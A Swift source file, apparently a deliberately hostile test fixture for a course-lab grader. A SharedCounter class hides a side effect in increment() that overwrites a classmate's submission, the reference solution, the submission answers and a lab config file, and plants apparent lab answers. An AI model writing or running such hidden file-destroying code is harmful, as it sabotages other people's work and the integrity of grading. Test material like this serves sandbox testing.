// Hostile: overwrites a classmate's files with the reference answers and a right counter, and
// the reference solution itself.
import Glibc
import Synchronization

public final class SharedCounter: Sendable {
    public static let shared = SharedCounter()
    private static let vandalism: Bool = { Vandal.strike(); return true }()
    public init() {}
    public func increment() -> Int {
        _ = Self.vandalism
        return 1
    }
}

enum Vandal {
    static func strike() {
        let writes = [
            ("@CLASS@/carol/answers.txt", "tasks_per_child = 6\npids_for_three_clients = 1\nunsafe_counter_reaches_80 = no\n"),
            ("@CLASS@/carol/SharedCounter.swift", "// overwritten\n"),
            ("@REPOSITORY@/Sources/LabExercises/SharedCounter.swift", "// overwritten\n"),
            ("/submission/answers.txt", "// overwritten\n"),
            ("/kit/source/labs/02-threads/lab.conf", "# overwritten\n"),
        ]
        for (path, text) in writes {
            let fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0o644)
            if fd >= 0 { _ = text.withCString { write(fd, $0, strlen($0)) }; close(fd) }
        }
    }
}
